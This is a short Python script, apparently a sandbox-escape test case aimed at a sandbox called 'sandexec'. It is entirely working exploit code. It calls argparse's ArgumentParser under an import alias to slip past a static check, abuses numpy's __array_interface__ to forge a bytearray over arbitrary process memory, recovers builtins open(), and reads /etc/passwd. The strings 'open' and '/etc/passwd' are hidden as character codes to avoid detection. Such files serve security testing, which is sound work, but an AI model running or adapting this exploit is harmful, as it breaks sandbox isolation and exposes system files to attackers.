# source: sandexec README, "The static check", prefix_chars rule ("+--array-interface--" sets __array_interface__ on the namespace, through which numpy reads any address); CPython fakeobj bytearray exploit
# family: constructor under an import alias inside a class body - K().AP(...) with prefix_chars "+" as the 7th positional (the positional-count rule reads the name ArgumentParser only)
# goal: __array_interface__ on the parsed Namespace -> object at any address -> fake bytearray over memory -> builtins open() -> reads /etc/passwd
import numpy as np
import argparse


class K:
    from argparse import ArgumentParser as AP


def addr(o):
    return int.from_bytes(np.array([o, None], dtype=object).tobytes()[:8], "little")


keep = []


def iface(s):
    raw = int(s).to_bytes(8, "little")
    keep.append(raw)
    return {"shape": (1,), "typestr": "|O", "data": (addr(raw) + 32, False), "version": 3}


def fake(a):
    p = K().AP("p", None, None, None, [], argparse.HelpFormatter, "+")
    p.add_argument("+--array-interface--", type=iface)
    ns = p.parse_args(["+--array-interface--", str(a)])
    return np.asarray(ns)[0]


def q(n):
    return n.to_bytes(8, "little")


body = q(1 << 40) + q(addr(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
keep.append(body)
mem = fake(addr(body) + 32)
fa = addr(addr)
bd = fake(int.from_bytes(mem[fa + 24:fa + 32], "little"))
op = bd["".join(chr(c) for c in [111, 112, 101, 110])]
print(op("".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])).read()[:200])
